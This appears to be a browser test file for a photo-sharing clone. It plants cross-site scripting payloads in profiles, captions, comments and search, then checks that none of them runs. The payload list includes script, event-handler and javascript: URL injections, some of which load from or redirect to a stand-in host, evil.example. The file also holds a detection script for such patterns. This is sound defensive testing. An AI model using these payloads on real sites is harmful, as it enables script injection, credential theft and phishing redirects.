"""Words that would be code, in every field in which people write, on every page that shows them."""

import itertools
import os
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from playwright.sync_api import Page

from tests.flows.conftest import Browse
from tests.flows.site import Site

pytestmark = pytest.mark.browser

IS_FULL = os.environ.get("INSTACLONE_TEST_FULL") == "1"
# What would end the place in which a word stands.
ENDS = (
    *("", '"', "'", '">', "'>", "</a>", "</script>", "</textarea>", "</title>", "</style>"),
    *("-->", "]]>"),
)
CODE = (
    "<script>planted()</script>",
    "<ScRiPt/x>planted()</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=planted()>",
    "<img/src/onerror=planted()//",
    "<svg onload=planted()>",
    "<svg><script>planted()</script></svg>",
    "<svg><a xlink:href=javascript:planted()>x</a></svg>",
    "<math href=javascript:planted()>x</math>",
    "<iframe srcdoc='<script>parent.planted()</script>'>",
    "<iframe src=javascript:parent.planted()>",
    "<object data=javascript:planted()>",
    "<embed src=javascript:planted()>",
    "<a href=javascript:planted()>x</a>",
    "<a href='java\tscript:planted()'>x</a>",
    "<body onload=planted()>",
    "<details open ontoggle=planted()>",
    "<input autofocus onfocus=planted()>",
    "<form action=//evil.example/><button>Sign in",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    " onmouseover=planted() autofocus onfocus=planted() x=",
    "{{constructor.constructor('planted()')()}}${planted()}",
    "<div hx-get=/ hx-trigger=load hx-on:load=planted()>",
)
# What none of our pages contains, whatever people write.
MARKS = """() => {
  const found = [];
  if (document.documentElement.dataset.planted) found.push("code has run");
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || name.startsWith("hx-on")) found.push(`${name}=${value}`);
      if (/^\\s*j\\s*a\\s*v\\s*a\\s*script:/i.test(value) && /href|src|action|data/.test(name))
        found.push(`${name}=${value}`);
      if (/^(src|action|data|srcset)$/.test(name) && value.includes("evil.example"))
        found.push(`${name}=${value}`);
    }
  }
  const strange = "iframe, object, embed, base, math, style, script:not([src]), meta[http-equiv]";
  const ours = ":not([type='application/json'], [type='importmap'], [type='speculationrules'])";
  for (const element of document.querySelectorAll(strange))
    if (element.matches(ours)) found.push(element.outerHTML.slice(0, 200));
  return found;
}"""
READY = "window.planted = () => { document.documentElement.dataset.planted = 'yes'; };"


def strings() -> list[str]:
    """Every end with every code in a full run; each code once, with changing ends, otherwise."""
    if IS_FULL:
        return [end + code for end, code in itertools.product(ENDS, CODE)]
    return [end + code for end, code in zip(itertools.cycle(ENDS), CODE, strict=False)]


def batches(texts: list[str], size: int) -> Iterator[list[str]]:
    for start in range(0, len(texts), size):
        yield texts[start : start + size]


def faults(page: Page, path: str) -> list[str]:
    """Return what a page contains that nobody but we may put there."""
    answer = page.goto(path)
    assert answer is not None
    assert answer.status == 200, path
    return [f"{path}: {fault}" for fault in page.evaluate(MARKS)]


class TestWordsStayWords:
    """Nothing that people write runs, loads, leads away or becomes a part of a page."""

    def test_on_every_page_that_shows_them(self, site: Site, browse: Browse) -> None:
        reader = site.person("reader")
        page = browse(reader)
        page.add_init_script(READY)
        found: list[str] = []
        for batch in batches(strings(), 25):
            author, post = self._written(site, batch, reader)
            owner = browse(author)
            owner.add_init_script(READY)
            for path in (
                "/",
                "/explore/",
                f"/{author}/",
                post,
                f"{post}comments/",
                "/notifications/",
            ):
                found += faults(page, path)
            for path in (f"{post}edit/", "/settings/profile/", "/notifications/", f"{post}likes/"):
                found += faults(owner, path)
            owner.context.close()

        assert found == []

    def test_nor_in_what_is_searched_for(self, site: Site, browse: Browse) -> None:
        page = browse(site.person("seeker"))
        page.add_init_script(READY)

        # As many as anybody may search for in a minute.
        found = [
            fault
            for text in strings()[:20]
            for fault in faults(page, f"/search/?q={quote(text, safe='')}")
        ]

        assert found == []

    @pytest.mark.parametrize("code", ["<img src=x onerror=planted()>", *CODE[11:14], CODE[19]])
    def test_and_what_did_not_is_noticed(self, browse: Browse, code: str) -> None:
        page = browse(forgiving=".")
        page.set_content(f"<p>{code}</p>")

        assert page.evaluate(MARKS)

    def _written(self, site: Site, batch: list[str], reader: str) -> tuple[str, str]:
        """Let somebody write the strings wherever they can; return who, and their post."""
        author = site.person(
            "writer", name=batch[0][:60], pronouns=batch[-1][:30], bio="\n".join(batch)[:300]
        )
        post = site.post(
            author,
            caption="\n".join(batch),
            alt_texts=["".join(batch)[:900]],
            place=max(batch, key=len)[:80],
        )
        site.ask("follow", follower=reader, followee=author)
        site.ask("follow", follower=author, followee=reader)
        for text in batch:
            site.ask("comment", author=author, post=post, text=f"@{reader} {text}")
        site.settle()
        return author, post
